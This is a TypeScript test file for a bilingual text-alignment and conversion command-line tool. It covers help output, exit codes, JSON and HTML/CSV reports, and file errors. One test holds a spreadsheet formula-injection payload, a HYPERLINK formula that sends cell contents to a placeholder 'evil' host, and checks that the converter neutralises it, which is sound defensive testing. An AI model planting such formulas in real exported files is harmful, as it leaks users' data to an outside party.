import { spawn } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { readTmx } from '../../shared/formats/tmx';
import { tempDirs } from '../services/test-support';
import { run } from './main';

const root = join(import.meta.dirname, '..', '..');
const left = join(root, 'corpus', '000_215b7419f4917f36.txt');
const right = join(root, 'corpus', '001_60f9e0f360a24205.txt');
const temp = tempDirs('facing-cli-');

/** One run of the command in this process, its output captured: a process per case cost seconds each. */
async function facing(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await run(args, { out: (data) => (stdout += data), err: (text) => (stderr += text) });
  return { code, stdout, stderr };
}

/** The installed `facing` command itself, as a shell runs it. */
function facingProcess(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(root, 'electron', 'cli', 'facing.mjs'), ...args], { cwd: root });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
  });
}

describe('the facing command line', { timeout: 120_000 }, () => {
  it('lists its commands with --help', async () => {
    const { code, stdout } = await facing('--help');
    expect(code).toBe(0);
    for (const word of ['align', 'check', 'convert', '--one-per-line', '--data-dir', 'tmx']) expect(stdout).toContain(word);
  });

  it('runs as a command: bad input exits 2 with one line on stderr', async () => {
    const missing = await facingProcess('align', join(temp(), 'nope.txt'), right);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/^facing: .*nope\.txt: no such file\n$/);
  });

  it('aligns two files into a TMX, then converts it to XLSX', async () => {
    const dir = temp();
    const tmx = join(dir, 'seed.tmx');
    const aligned = await facing('align', left, right, '-o', tmx);
    expect(aligned.code).toBe(0);
    expect(aligned.stderr).toMatch(/seed\.tmx: 1 rows with one side empty were left out/);
    const units = readTmx(readFileSync(tmx, 'utf8')).units;
    expect(units.length).toBe(15);
    const xlsx = join(dir, 'seed.xlsx');
    expect((await facing('convert', tmx, xlsx)).code).toBe(0);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(xlsx);
    expect(book.worksheets[0]!.rowCount).toBe(units.length + 1);
  });

  it('reads one sentence per line and writes JSON rows with indices', async () => {
    const dir = temp();
    writeFileSync(join(dir, 'a.txt'), 'The door is open.\nIt is 5 metres wide.\n\nClose it.\n');
    writeFileSync(join(dir, 'b.txt'), 'Die Tür ist offen.\nSie ist fünf Meter breit.\n\nSchließ sie.\n');
    const { code, stdout } = await facing('align', join(dir, 'a.txt'), join(dir, 'b.txt'), '--one-per-line', '--from', 'en', '--to', 'de', '--format', 'json');
    expect(code).toBe(0);
    const json = JSON.parse(stdout);
    expect(json.rows.map((r: { source: number[]; target: number[] }) => [r.source, r.target])).toEqual([[[0], [0]], [[1], [1]], [[2], [2]]]);
    expect(json.rows[1].targetText).toEqual(['Sie ist fünf Meter breit.']);
  });

  it('check: exit 1 and a report when something is flagged, JSON on request, 0 when nothing is', async () => {
    const flagged = await facing('check', left, right, '--json');
    expect(flagged.code).toBe(1);
    expect(JSON.parse(flagged.stdout).flags).toEqual([expect.objectContaining({ kind: 'no-counterpart' })]);
    const dir = temp();
    writeFileSync(join(dir, 'a.txt'), 'It took five days, from July 1st to July 5th, 2024.\n');
    writeFileSync(join(dir, 'b.txt'), 'Es dauerte 5 Tage, vom 1. bis 5. Juli 2024.\n');
    const clean = await facing('check', join(dir, 'a.txt'), join(dir, 'b.txt'), '--from', 'en', '--to', 'de');
    expect(clean.stdout).toMatch(/Nothing flagged/);
    expect(clean.code).toBe(0);
  });

  it('check --report writes the flags with both sides of each row as HTML or CSV', async () => {
    const dir = temp();
    writeFileSync(join(dir, 'a.txt'), 'The pump starts after 5 seconds.\n\nClose the valve.\n');
    writeFileSync(join(dir, 'b.txt'), 'Die Pumpe startet nach 6 Sekunden.\n\nSchließen Sie das Ventil.\n');
    const html = join(dir, 'report.html');
    const run = await facing('check', join(dir, 'a.txt'), join(dir, 'b.txt'), '--from', 'en', '--to', 'de', '--report', html);
    expect(run.code).toBe(1);
    const page = readFileSync(html, 'utf8');
    expect(page).toContain('Numbers differ (1)');
    expect(page).toContain('<td class="side" lang="en">The pump starts after 5 seconds.</td><td class="side" lang="de">Die Pumpe startet nach 6 Sekunden.</td>');
    const csv = join(dir, 'report.csv');
    expect((await facing('check', join(dir, 'a.txt'), join(dir, 'b.txt'), '--from', 'en', '--to', 'de', '--report', csv)).code).toBe(1);
    expect(readFileSync(csv, 'utf8').split('\r\n')[1]).toMatch(/^"1","Numbers differ","number-mismatch",".*","open","The pump starts after 5 seconds.","Die Pumpe startet nach 6 Sekunden."$/);
    const wrong = await facing('check', join(dir, 'a.txt'), join(dir, 'b.txt'), '--report', join(dir, 'report.pdf'));
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/report\.pdf: --report writes \.html or \.csv/);
  });

  it('bad input: exit 2 and one line on stderr naming the file', async () => {
    const missing = await facing('align', join(temp(), 'nope.txt'), right);
    expect(missing.code).toBe(2);
    expect(missing.stderr.trim().split('\n')).toHaveLength(1);
    expect(missing.stderr).toMatch(/nope\.txt: no such file/);
    const dir = temp();
    const evil = join(dir, 'evil.tmx');
    writeFileSync(evil, '<?xml version="1.0"?><tmx version="1.4"><header srclang="en"/></tmx>');
    const refused = await facing('convert', evil, join(dir, 'out.tsv'));
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/evil\.tmx.*no <body>/);
    expect(existsSync(join(dir, 'out.tsv'))).toBe(false);
    expect((await facing('align', left, right, '--format', 'pdf')).code).toBe(2);
  });

  it('convert defuses formula cells in the TSV it writes', async () => {
    const dir = temp();
    const csv = join(dir, 'x.csv');
    writeFileSync(csv, 'en,de\n"=HYPERLINK(""http://evil/?""&A1)",@SUM(A1)\n');
    const out = join(dir, 'out.tsv');
    expect((await facing('convert', csv, out)).code).toBe(0);
    expect(readFileSync(out, 'utf8').split('\r\n')[1]).toBe(`1\t"'=HYPERLINK(""http://evil/?""&A1)"\t'@SUM(A1)\t\t\t`);
  });

  it('files that cannot be read or written: exit 2 and one plain line naming the file, no system error codes', async () => {
    const dir = temp();
    const csv = join(dir, 'a.csv');
    writeFileSync(csv, 'en,de\nBerlin,Berlin\n');
    const cases: Array<[string[], RegExp]> = [
      [['convert', csv, '/nonexistent/out.tmx'], /cannot write \/nonexistent\/out\.tmx: the folder does not exist/],
      [['convert', csv, dir + '/'], new RegExp(`cannot write ${dir}/?: it is a folder, not a file|${dir}/?: cannot tell the format`)],
      [['convert', dir, join(dir, 'out.tmx')], new RegExp(`cannot read ${dir}: it is a folder, not a file`)],
      [['align', dir, right], new RegExp(`cannot read ${dir}: it is a folder, not a file`)],
      [['check', left, right, '--report', '/nonexistent/report.html'], /cannot write \/nonexistent\/report\.html: the folder does not exist/],
      [['check', left, right, '--glossary', dir], new RegExp(`cannot read ${dir}: it is a folder, not a file`)],
    ];
    for (const [args, message] of cases) {
      const run = await facing(...args);
      expect(run.code, args.join(' ')).toBe(2);
      expect(run.stderr.trim().split('\n'), args.join(' ')).toHaveLength(1);
      expect(run.stderr, args.join(' ')).toMatch(message);
      expect(run.stderr).not.toMatch(/\b(ENOENT|EISDIR|EACCES)\b/);
    }
  });
});
